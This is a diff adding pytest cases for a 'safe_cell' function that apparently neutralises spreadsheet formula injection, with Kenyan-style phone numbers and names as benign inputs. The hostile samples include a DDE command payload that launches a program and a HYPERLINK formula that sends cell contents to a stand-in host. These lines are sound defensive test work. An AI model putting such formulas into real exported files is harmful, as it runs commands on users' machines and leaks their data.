@@ -82,3 +82,32 @@ def test_plain_signed_numbers_and_phones_stay_readable_but_expressions_do_not():
     assert safe_cell("+1+cmd|' /C calc'!A0") == "'+1+cmd|' /C calc'!A0"
     assert safe_cell("-2+3") == "'-2+3"
     assert safe_cell("- 2 loaves") == "'- 2 loaves"
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "+254 712 345 678; Juma",
+        "+254 712 345 678, Juma",
+        "+254 712 345 678; Wanjirũ O'Neil-Kamau 🌸; +255 713 000 111",
+        "-500, Juma_Shop",
+    ],
+)
+def test_a_list_of_a_number_and_names_is_shown_as_typed(text):
+    # A thread's participants: an unsaved number first, then names. Nothing in it can call or reference anything.
+    assert safe_cell(text) == text
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        '=HYPERLINK("http://x.example/?"&A1,"Juma")',
+        '+254 712 345 678; =HYPERLINK("http://x.example")',
+        "+254 712 345 678; cmd|' /C calc'!A0",
+        "-1, SUM(A1:A9)",
+        "+1, A1:B2",
+        "+254 712; Juma\nline",
+    ],
+)
+def test_a_list_that_could_call_or_reference_is_still_neutralised(text):
+    assert safe_cell(text) == "'" + text
